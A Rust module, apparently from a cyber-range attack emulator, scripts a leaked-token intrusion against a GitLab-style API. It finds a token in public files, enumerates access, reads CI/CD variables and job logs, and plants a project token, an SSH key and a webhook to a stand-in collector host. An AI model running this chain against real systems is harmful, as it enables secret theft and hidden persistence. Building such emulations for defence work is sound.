//! `leaked-token`: a personal access token lies in a public repository.
//!
//! The attacker searches public files, finds the token, looks at what it
//! reaches, reads CI/CD variables and job logs, and plants what survives the
//! token: a project access token (a user's token cannot make another personal
//! one; the attempt is refused), an SSH key and a webhook.

use reqwest::Method;
use serde_json::json;

use super::AttackError;
use super::attacker::{Attacker, text};
use super::hands::{make_project_token, plant_key, plant_webhook};
use super::loot::{CredentialKind, Loot};

/// The key that is planted.
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarborRangeAttackerKeyLeakedToken0123456789 build";
/// Where the planted webhook sends to.
const COLLECTOR: &str = "https://collector.mirror-cdn.example/in";
/// Rows that the attacker's script asks for at a time.
const PER_PAGE: usize = 5;

/// Runs the attack.
pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
    let secret = find_token(&attacker).await?;
    let token = CredentialKind::AccessToken(secret);
    let projects = look_around(&attacker, &token).await?;
    let (treasure, variables_read) = read_variables(&attacker, &token, &projects).await?;
    read_traces(&attacker, &token, &treasure).await?;

    let mut loot = Loot::new(attacker);
    loot.variables_read = variables_read;
    loot.hold("the leaked token", token.clone());
    plant(&mut loot, &token, &treasure).await?;
    Ok(loot)
}

/// Goes through the files of public projects until one holds a token.
async fn find_token(attacker: &Attacker) -> Result<String, AttackError> {
    let path = "/projects?visibility=public";
    let projects = attacker.get("search public projects", path, None).await?.accepted()?;
    for project in projects.rows() {
        let id = text(&project, "id");
        let path = format!("/projects/{id}/repository/tree");
        let files = attacker.get("list a public project's files", &path, None).await?;
        for file in files.rows() {
            let name = text(&file, "path").replace('/', "%2F");
            let path = format!("/projects/{id}/repository/files/{name}/raw");
            let content = attacker.get("read a public file", &path, None).await?.text;
            let mut words = content.split_whitespace();
            if let Some(found) = words.find(|word| word.starts_with(crate::secret::ACCESS_TOKEN)) {
                return Ok(found.to_owned());
            }
        }
    }
    Err(AttackError::NotFound("a token in a public file"))
}

/// Who am I, and what do I reach? Returns the ids of the projects.
async fn look_around(
    attacker: &Attacker,
    token: &CredentialKind,
) -> Result<Vec<String>, AttackError> {
    let with = Some(token);
    attacker.get("ask whose token it is", "/user", with).await?.accepted()?;
    attacker.get("ask what the token may do", "/personal_access_tokens/self", with).await?;
    attacker.get("list groups", "/groups?per_page=100", with).await?;
    attacker.get("list colleagues", "/users?per_page=100", with).await?;
    let mut ids = Vec::new();
    for page in 1.. {
        let path = format!("/projects?membership=true&per_page={PER_PAGE}&page={page}");
        let reply = attacker.get("list projects", &path, with).await?.accepted()?;
        let rows = reply.rows();
        ids.extend(rows.iter().map(|row| text(row, "id")));
        if rows.len() < PER_PAGE {
            break;
        }
    }
    Ok(ids)
}

/// Reads the variables wherever it is allowed. Returns the project with the most, and how many in all.
async fn read_variables(
    attacker: &Attacker,
    token: &CredentialKind,
    projects: &[String],
) -> Result<(String, usize), AttackError> {
    let mut best = (String::new(), 0);
    let mut total = 0;
    for id in projects {
        let path = format!("/projects/{id}/variables?per_page=100");
        let reply = attacker.get("read CI/CD variables", &path, Some(token)).await?;
        let count = reply.rows().len();
        total += count;
        if count > best.1 {
            best = (id.clone(), count);
        }
    }
    if best.1 == 0 {
        return Err(AttackError::NotFound("a project with variables"));
    }
    Ok((best.0, total))
}

async fn read_traces(
    attacker: &Attacker,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let path = format!("/projects/{project}/jobs");
    let jobs = attacker.get("list CI/CD jobs", &path, Some(token)).await?;
    for job in jobs.rows() {
        let path = format!("/projects/{project}/jobs/{}/trace", text(&job, "id"));
        attacker.get("read a job's log", &path, Some(token)).await?;
    }
    Ok(())
}

/// Leaves behind what survives the token.
async fn plant(loot: &mut Loot, token: &CredentialKind, project: &str) -> Result<(), AttackError> {
    let with = Some(token);
    let attacker = loot.attacker.clone();
    let me = attacker.get("ask for the own id", "/user", with).await?.field("id");
    let second = json!({ "name": "backup", "scopes": ["api"] });
    let path = format!("/users/{me}/personal_access_tokens");
    attacker
        .write("try to make a second personal token", (Method::POST, &path), with, second)
        .await?;

    let planted = make_project_token(&attacker, token, project, "ci-cache").await?;
    let path = format!("/projects/{project}/variables");
    attacker.get("use the planted token", &path, Some(&planted)).await?;
    loot.hold("a planted project access token", planted);

    plant_key(loot, token, "build cache", KEY, project).await?;
    plant_webhook(loot, token, project, COLLECTOR).await
}
